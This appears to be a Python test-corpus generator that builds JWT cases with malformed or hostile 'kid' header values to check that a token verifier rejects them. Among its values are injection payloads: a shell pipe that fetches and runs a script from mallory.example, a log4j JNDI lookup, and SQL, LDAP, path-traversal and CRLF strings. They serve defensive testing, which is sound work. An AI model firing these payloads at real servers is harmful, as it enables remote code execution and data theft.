"""Tokens whose kid names no key, another one, or a way into the server."""

from __future__ import annotations

from collections.abc import Iterator

from tests.corpus.keys import KEYS
from tests.corpus.maker import LEFT_OUT, SHOULD, Maker, Row


def rows(make: Maker) -> Iterator[Row]:
    kid = make.key.kid
    no_text = {"number": 1, "zero": 0, "true": True, "list": [kid], "object": {"kid": kid}, "null": None}
    for name, value in no_text.items():
        yield Row(
            f"kid-{name}", f"kid is {value!r:.40} and no text (RFC 7515, 4.1.4).", "kid", make.token({"kid": value})
        )
    yield Row("kid-left-out", "kid is missing.", "kid", make.token({"kid": LEFT_OUT}), SHOULD)
    token = make.token({"kid": f"{kid}\ud800"})
    yield Row("kid-surrogate", "kid ends with half a character.", "malformed_json", token, SHOULD)
    no_name = {
        "empty": "",
        "long": "k" * 129,
        "huge": "k" * 10_000,
        "nul": f"{kid}\0",
        "nul-file": "/dev/null\0",
        "line-break": f"{kid}\n",
        "crlf": "x\r\nHost: mallory.example",
        "kelvin": "\u212a",
        "override": f"\u202e{kid}",
        "full-width": "\uff4b\uff49\uff44",
    }
    for name, value in no_name.items():
        yield Row(f"kid-{name}", f"kid is {value[:40]!a}.", "kid", make.token({"kid": value}), SHOULD)
    strangers = {
        "stranger": "another",
        "case": kid.swapcase(),
        "blank-before": f" {kid}",
        "blank-after": f"{kid} ",
        "prefix": kid[:-1],
        "longer": f"{kid}0",
        "index": "0",
        "wildcard": "*",
        "path": "../../../../../../dev/null",
        "windows-path": "..\\..\\..\\boot.ini",
        "file-url": "file:///dev/null",
        "url": make.mallory_url,
        "sql": "' UNION SELECT 'secret' --",
        "sql-or": f"{kid}' OR '1'='1",
        "shell": "; curl mallory.example | sh",
        "subshell": "$(id)",
        "template": "{{7*7}}",
        "format": "%s%s%n",
        "ldap": "*)(kid=*",
        "log4j": "${jndi:ldap://mallory.example/x}",
        "prototype": "__proto__",
        "constructor": "constructor",
        "json": f'{{"kid":"{kid}"}}',
        "percent": "%00",
    }
    for name, value in strangers.items():
        says = f"kid is {value!r}, which no key has; signed by the attacker."
        yield Row(f"kid-{name}", says, "unknown_kid", make.sign(make.claims(), make.header(kid=value), make.mallory))
    yield Row(
        "kid-stranger-genuine",
        "A genuine signature, but kid names no key.",
        "unknown_kid",
        make.token({"kid": "nobody"}),
        SHOULD,
    )
    older = KEYS[f"older-{make.key.algorithm}"]
    token = make.sign(make.claims(), make.header(kid=older.kid))
    says = "A genuine signature under the kid of another published key."
    yield Row("kid-other-key", says, "bad_signature", token, SHOULD)
